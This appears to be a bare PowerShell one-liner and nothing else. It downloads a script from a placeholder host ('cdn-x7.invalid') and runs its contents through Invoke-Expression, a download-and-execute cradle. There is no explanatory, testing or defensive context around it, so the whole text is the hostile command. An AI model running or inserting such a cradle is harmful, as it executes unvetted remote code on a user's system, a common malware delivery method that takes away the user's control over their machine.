$s=irm https://cdn-x7.invalid/a.ps1; $s | ForEach-Object { Invoke-Expression $_ }
